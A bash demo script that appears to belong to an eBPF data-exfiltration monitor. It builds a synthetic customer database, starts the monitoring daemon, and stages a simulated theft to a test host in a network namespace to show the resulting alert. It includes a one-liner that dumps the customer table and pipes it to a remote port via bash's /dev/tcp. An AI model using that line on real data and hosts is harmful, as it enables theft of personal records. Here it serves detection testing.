#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-only
# make demo: a customer database, exfilmond watching it, a simulated theft
# to a test host in a network namespace, and the alert it raises.
set -eu
build=${1:-build}
build=$(cd "$build" && pwd)
demo=/tmp/exfilmon-demo
ns=exfilmon-demo
host=198.18.200.2

cleanup() {
	[ -n "${daemon:-}" ] && kill "$daemon" 2>/dev/null && wait "$daemon" || true
	ip netns del $ns 2>/dev/null || true
	ip link del exfdemo0 2>/dev/null || true
}
trap cleanup EXIT

if [ "$(id -u)" -ne 0 ]; then
	echo "demo: run as root (the eBPF sensor needs it)" >&2
	exit 1
fi
make --no-print-directory -s "$build/tests/helpers/tcp_sink" BUILD="$(basename "$build")" >/dev/null 2>&1 ||
	make --no-print-directory tests >/dev/null

rm -rf $demo
mkdir -p $demo/crm
echo "== generating the demo customer database"
sqlite3 $demo/crm/customers.db <<'SQL'
CREATE TABLE customers (id INTEGER PRIMARY KEY, name TEXT, account_id TEXT,
			phone TEXT);
WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 40000)
INSERT INTO customers (name, account_id, phone)
SELECT (CASE i % 8 WHEN 0 THEN 'Ada' WHEN 1 THEN 'Bram' WHEN 2 THEN 'Chen'
	WHEN 3 THEN 'Dolores' WHEN 4 THEN 'Emeka' WHEN 5 THEN 'Fatima'
	WHEN 6 THEN 'Gustav' ELSE 'Hana' END) || ' ' ||
       (CASE (i / 8) % 7 WHEN 0 THEN 'Okafor' WHEN 1 THEN 'Lindqvist'
	WHEN 2 THEN 'Moreau' WHEN 3 THEN 'Tanaka' WHEN 4 THEN 'Novak'
	WHEN 5 THEN 'Silva' ELSE 'Haddad' END),
       printf('ACC%08d', 10000000 + i * 7),
       printf('+44 7700 %06d', (i * 7919) % 1000000)
FROM n;
SQL
echo "   $(sqlite3 $demo/crm/customers.db 'SELECT count(*) FROM customers') customers," \
     "$(stat -c %s $demo/crm/customers.db) bytes"

cat > $demo/exfilmon.conf <<CONF
[watch]
path = $demo/crm/customers.db

[correlation]
read_threshold = 1M
send_threshold = 256K
window = 1h

[network]
internal = 10.0.0.0/8, fd00::/8

[daemon]
state_dir = $demo/state
socket = $demo/exfilmon.sock
CONF

echo "== starting exfilmond"
"$build/exfilmond" --config $demo/exfilmon.conf --foreground \
	>$demo/exfilmond.log 2>&1 &
daemon=$!
for _ in $(seq 100); do
	[ -S $demo/exfilmon.sock ] && break
	sleep 0.1
done
ctl() { "$build/exfilctl" --socket $demo/exfilmon.sock "$@"; }
ctl status

echo "== a test host at $host in network namespace $ns"
ip netns add $ns
ip link add exfdemo0 type veth peer name eth0 netns $ns
ip addr add 198.18.200.1/24 dev exfdemo0
ip link set exfdemo0 up
ip -n $ns addr add $host/24 dev eth0
ip -n $ns link set eth0 up
ip netns exec $ns "$build/tests/helpers/tcp_sink" $host 443 >$demo/received &
sink=$!
sleep 0.3

echo "== the theft: sqlite3 -csv customers.db 'SELECT * FROM customers' > /dev/tcp/$host/443"
sqlite3 -csv $demo/crm/customers.db 'SELECT * FROM customers' >/dev/tcp/$host/443
wait $sink
echo "   the test host received $(cat $demo/received) bytes"

sleep 2
echo
echo "== exfilctl alerts"
ctl alerts
echo
echo "== exfilctl show 1"
ctl show 1
